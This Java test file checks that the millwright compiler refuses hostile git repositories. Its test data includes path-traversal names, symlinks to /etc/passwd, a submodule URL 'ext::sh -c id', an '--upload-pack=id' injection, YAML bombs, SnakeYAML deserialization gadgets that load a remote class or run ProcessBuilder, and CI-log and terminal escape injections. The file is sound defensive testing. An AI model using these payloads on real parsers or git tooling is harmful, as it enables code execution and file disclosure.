package dev.millwright.compiler.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import dev.millwright.compiler.hostile.Forge.Entry;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import org.eclipse.jgit.lib.FileMode;
import org.eclipse.jgit.lib.ObjectId;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Commits that mean harm, each compiled in a process with 512 MB within ten seconds. Every one
/// ends in a diagnostic; none writes a file.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
final class HostileRepositoriesTest {
  private static final String HEADER = "apiVersion: millwright.dev/v1\nkind: Function\n";

  private final Forge forge = new Forge();
  private Path folder;
  private Court court;

  @BeforeAll
  void open(@TempDir Path temporary) {
    folder = temporary;
    court = Court.in(temporary);
    assertThat(judged(forge.projectWith()).rules()).isEmpty();
  }

  @AfterAll
  void nothing_was_written() throws IOException {
    court.close();
    try (Stream<Path> written = Files.list(folder)) {
      assertThat(written).isEmpty();
    }
    try (Stream<Path> written = Files.list(forge.folder().getParent())) {
      assertThat(written).containsExactly(forge.folder());
    }
    forge.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "..",
        ".",
        ".git",
        ".GIT",
        ".gIt",
        "git~1",
        ".git ",
        ".git.",
        ".g\u200cit",
        "../../etc/passwd",
        "/etc/passwd",
        "a/../../b",
        "a/b",
        "..\\..\\b",
        "C:\\b",
        "a\nb",
        "a\u001b[2Jb",
        "a\u202eb",
        "a\u2066b",
        "a\u2028b",
        "a\u007fb",
        "a\u0085b"
      })
  void a_name_that_leads_elsewhere_is_refused(String name) {
    refused(forge.projectWith(forge.file(name, HEADER)), "MW1502");
    refused(forge.projectWith(forge.folder(name, forge.file("x.yaml", HEADER))), "MW1502");
  }

  @Test
  void a_name_longer_than_file_systems_have_is_refused() {
    refused(forge.projectWith(forge.file("n".repeat(256), "x")), "MW1502");
    refused(forge.projectWith(forge.file("n".repeat(1_000_000) + ".yaml", HEADER)), "MW1502");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"/etc/passwd", "project.yaml", ".", "..", "loop.yaml", "../../outside", "\u0000"})
  void a_symbolic_link_is_refused_wherever_it_leads(String target) {
    refused(forge.projectWith(link("loop.yaml", target)), "MW1502");
    refused(forge.projectWith(forge.folder("data", link("flights.parquet", target))), "MW1502");
  }

  @Test
  void links_to_each_other_are_refused() {
    refused(forge.projectWith(link("a.yaml", "b.yaml"), link("b.yaml", "a.yaml")), "MW1502");
  }

  @Test
  void an_ignore_file_that_is_a_link_is_not_followed() {
    refused(forge.projectWith(link(".millwrightignore", "/etc/passwd")), "MW1502");
  }

  @Test
  void another_repository_is_refused() {
    ObjectId nowhere = ObjectId.fromString("0123456789012345678901234567890123456789");
    Entry modules = forge.file(".gitmodules", "[submodule \"x\"]\n\turl = ext::sh -c id\n");
    refused(forge.projectWith(modules, new Entry("x", FileMode.GITLINK, nowhere)), "MW1502");
    refused(forge.projectWith(new Entry("data", FileMode.GITLINK, nowhere)), "MW1502");
  }

  @Test
  void an_entry_that_lies_about_its_object_is_refused() {
    ObjectId blob = forge.blob("x");
    ObjectId tree = forge.tree(List.of(forge.file("x", "x")));
    refused(forge.projectWith(new Entry("x", FileMode.TREE, blob)), "MW1502");
    judged(forge.projectWith(new Entry("x.yaml", FileMode.REGULAR_FILE, tree)));
  }

  @ParameterizedTest
  @MethodSource("sameFiles")
  void two_names_for_one_file_are_refused(List<String> names) {
    refused(
        forge.projectWith(forge.file(names.getFirst(), "1"), forge.file(names.getLast(), "2")),
        "MW1502");
  }

  static List<List<String>> sameFiles() {
    return List.of(
        List.of("Train.java", "train.java"),
        List.of("\u00e9.java", "e\u0301.java"),
        List.of("\u212b.java", "\u00c5.java"),
        List.of("\u03c3.java", "\u03c2.java"),
        List.of("PROJECT.yaml", "project.yaml"));
  }

  @Test
  void the_same_name_twice_is_refused() {
    Entry file = forge.file("project.yaml", "");
    refused(forge.commit(forge.tree(List.of(file, file))), "MW1502");
  }

  @Test
  void a_file_and_a_folder_of_one_name_are_refused() {
    Entry file = forge.file("a", "");
    Entry folder = forge.folder("a", forge.file("b", ""));
    refused(forge.commit(forge.tree(List.of(file, folder))), "MW1502");
  }

  @Test
  void huge_yaml_is_not_read() {
    refused(forge.projectWith(forge.file("x.yaml", HEADER + "x".repeat(100_000_000))), "MW1001");
  }

  @ParameterizedTest
  @MethodSource("words")
  void a_word_that_nobody_writes_is_refused_unread(String rest) {
    refused(forge.projectWith(forge.file("x.yaml", HEADER + rest)), "MW1001");
  }

  static List<String> words() {
    return List.of(
        "x: " + "x".repeat(10_000_000),
        "x: " + "x".repeat(2_900_000),
        "x: \"" + "\\u202e".repeat(400_000) + "\"",
        "x: " + "*a".repeat(1_000_000),
        "# " + "x".repeat(2_900_000),
        "? " + "{".repeat(100_001),
        "x: |\n  " + "\u00e9".repeat(100_001));
  }

  @Test
  void the_longest_word_that_is_read_is_read() {
    Entry file = forge.file("x.yaml", HEADER + "# " + "x".repeat(100_000) + "\n");
    assertThat(judged(forge.projectWith(file)).rules()).isNotEmpty().doesNotContain("MW1001");
  }

  @Test
  void more_yaml_than_is_read_of_a_project_is_refused() {
    ObjectId text = forge.blob(HEADER + "# " + ("x".repeat(99) + " ").repeat(29_990));
    List<Entry> files = new ArrayList<>();
    for (int i = 0; i < 200; i++) {
      files.add(new Entry("x%03d.yaml".formatted(i), FileMode.REGULAR_FILE, text));
    }
    refused(forge.projectWith(files.toArray(Entry[]::new)), "MW1810");
  }

  @Test
  void huge_data_is_passed_by() {
    byte[] data = new byte[100_000_000];
    new Random(1).nextBytes(data);
    Entry file = new Entry("large.bin", FileMode.REGULAR_FILE, forge.blob(data));
    assertThat(judged(forge.projectWith(file)).rules()).isEmpty();
  }

  @Test
  void a_huge_ignore_file_is_not_read() {
    Entry file = forge.file(".millwrightignore", "*a*b*c*\n".repeat(1_000_000));
    refused(forge.projectWith(file), "MW1810");
  }

  @Test
  void an_ignore_pattern_costs_little_whatever_it_asks() {
    Entry ignore =
        forge.file(".millwrightignore", "*a".repeat(100) + "b\n" + "**/".repeat(500) + "x\n");
    refused(forge.projectWith(ignore, forge.file("a".repeat(250), "x")), "MW1810");
  }

  @Test
  void a_deep_tree_is_refused() {
    ObjectId tree = forge.tree(List.of(forge.file("x.yaml", HEADER)));
    for (int i = 0; i < 20_000; i++) {
      tree = forge.tree(List.of(new Entry("d", FileMode.TREE, tree)));
    }
    refused(forge.projectWith(new Entry("d", FileMode.TREE, tree)), "MW1810");
  }

  @Test
  void a_tree_that_multiplies_is_refused() {
    refused(forge.projectWith(multiplied(forge.file("x.yaml", HEADER))), "MW1810");
    refused(forge.projectWith(multiplied(forge.folder("empty"))), "MW1810");
  }

  @Test
  void a_wide_tree_is_refused() {
    refused(forge.projectWith(wide(300_000)), "MW1810");
    refused(forge.projectWith(wide(2_000_000)), "MW1810");
  }

  @ParameterizedTest
  @MethodSource("bombs")
  void yaml_that_explodes_is_refused(String rest) {
    refused(forge.projectWith(forge.file("x.yaml", HEADER + rest)), "MW1001");
  }

  static List<String> bombs() {
    StringBuilder laughs = new StringBuilder("a0: &a0 [x]\n");
    for (int i = 1; i < 30; i++) {
      laughs.append("a%d: &a%d [%s]\n".formatted(i, i, "*a%d,".formatted(i - 1).repeat(9)));
    }
    return List.of(
        laughs.toString(),
        "x: &x [*x]\n",
        "x: &x {<<: *x}\n",
        "x: " + "[".repeat(1_000_000),
        "x: " + "{a: ".repeat(500_000),
        "x: [" + "0,".repeat(1_400_000) + "0]\n",
        "x: " + "9".repeat(900) + "\n",
        "x: 1." + "9".repeat(900) + "\n",
        "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://a.example/\"]]]]\n",
        "x: !<tag:yaml.org,2002:java.lang.ProcessBuilder> [id]\n",
        "x: !include /etc/passwd\n",
        "---\n@ millwright.dev/\n".repeat(150_000));
  }

  @ParameterizedTest
  @MethodSource("strange")
  void yaml_that_is_only_strange_is_refused_in_words(String rest) {
    assertThat(judged(forge.projectWith(forge.file("x.yaml", HEADER + rest))).rules()).isNotEmpty();
  }

  static List<String> strange() {
    StringBuilder keys = new StringBuilder();
    for (int i = 0; i < 90_000; i++) {
      keys.append("key").append(i).append(": 1\n");
    }
    return List.of(
        "%TAG ! tag:yaml.org,2002:\n---\nx: !ruby/object:Gem {}\n",
        "x: " + "9".repeat(2_000_000) + "\n",
        "x: 1." + "9".repeat(2_000_000) + "\n",
        "x: 1e999999999\n",
        "x".repeat(2_900_000) + ": 1\n",
        "? " + "x".repeat(2_900_000) + "\n: 1\n",
        "metadata: {name: " + "x".repeat(2_900_000) + "}\n",
        "metadata: " + "metadata: ".repeat(290_000),
        "spec: \"" + "\\u202e".repeat(400_000) + "\"\n",
        keys.toString(),
        ("---\n" + HEADER).repeat(50_000),
        "---\n".repeat(700_000),
        "spec: {$ref: \"http://127.0.0.1:1/schema.json\"}\n",
        "$schema: \"file:///etc/passwd\"\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../etc",
        "data/../../etc",
        "./..",
        "data/../..",
        "..\\\\..\\\\etc",
        "ext::sh -c id",
        "file:///etc",
        "file::/etc",
        "--upload-pack=id",
        "http://127.0.0.1:1/x",
        "jar:file:/x!/y",
        "\\u0000",
        "\\e]8;;http://a.example\\a",
        "~/x",
        "C:/x"
      })
  void a_root_that_leads_elsewhere_is_refused(String root) {
    String connection =
        "apiVersion: millwright.dev/v1\nkind: Connection\nmetadata: {name: flights}\n"
            + "spec: {type: filesystem, root: \"%s\"}\n".formatted(root);
    Judge.Verdict verdict = judged(forge.projectWith(forge.file("connection.yaml", connection)));
    assertThat(verdict.rules()).isNotEmpty().isSubsetOf("MW1104", "MW1501", "MW1502", "MW1001");
  }

  @Test
  void a_poisoned_name_reaches_no_terminal_and_no_log() {
    String name =
        "\\e]0;owned\\a\\e[2J\\r::error::owned\\n::set-output name=x::y\\u202e[x](http://a.example)@all<b>";
    String yaml =
        HEADER + "metadata: {name: \"" + name + "\"}\nspec: {\"" + name + "\": \"" + name + "\"}\n";
    Judge.Verdict verdict = judged(forge.projectWith(forge.file("x.yaml", yaml)));
    assertThat(verdict.rules()).isNotEmpty();
    verdict.reports().forEach(HostileRepositoriesTest::assertHarmless);
    assertThat(verdict.reports().get("github").lines())
        .allMatch(it -> it.matches("::(error|warning) file=.*"));
    assertThat(verdict.reports().get("sarif")).doesNotContain("[x](");
  }

  @Test
  void a_poisoned_path_reaches_no_terminal_and_no_log() {
    Entry file = forge.file("\u001b[2J\r\n::error::x,line=1:\u202e.yaml", HEADER);
    Judge.Verdict verdict = judged(forge.projectWith(file));
    assertThat(verdict.rules()).containsExactly("MW1502");
    verdict.reports().forEach(HostileRepositoriesTest::assertHarmless);
    assertThat(verdict.reports().get("github").lines()).hasSize(1);
  }

  private static void assertHarmless(String output, String report) {
    // The colours are ours.
    String plain = report.replaceAll("\u001b\\[[0-9;]*m", "");
    assertThat(plain.chars().filter(it -> it != '\n'))
        .as(output)
        .noneMatch(it -> Character.isISOControl(it) || it == 0x202e);
    assertThat(plain.lines()).as(output).noneMatch(it -> it.startsWith("::error::"));
  }

  private Entry multiplied(Entry leaf) {
    Entry entry = leaf;
    for (int level = 0; level < 12; level++) {
      ObjectId id = entry.id();
      FileMode mode = entry.mode();
      String ending = mode == FileMode.TREE ? "" : ".yaml";
      List<Entry> ten = new ArrayList<>();
      for (int i = 0; i < 10; i++) {
        ten.add(new Entry("n" + i + ending, mode, id));
      }
      entry = new Entry("many", FileMode.TREE, forge.tree(ten));
    }
    return entry;
  }

  private Entry wide(int files) {
    ObjectId blob = forge.blob("x");
    List<Entry> entries = new ArrayList<>();
    for (int i = 0; i < files; i++) {
      entries.add(new Entry("f%07d".formatted(i), FileMode.REGULAR_FILE, blob));
    }
    return new Entry("wide", FileMode.TREE, forge.tree(entries));
  }

  private Entry link(String name, String target) {
    return new Entry(name, FileMode.SYMLINK, forge.blob(target));
  }

  private void refused(ObjectId commit, String rule) {
    assertThat(judged(commit).rules()).contains(rule);
  }

  private Judge.Verdict judged(ObjectId commit) {
    if (!court.isOpen()) {
      court = Court.in(folder);
      court.judge(forge.folder(), forge.projectWith());
    }
    Judge.Verdict verdict = court.judge(forge.folder(), commit);
    assertThat(verdict.thrown()).isEmpty();
    return verdict;
  }
}
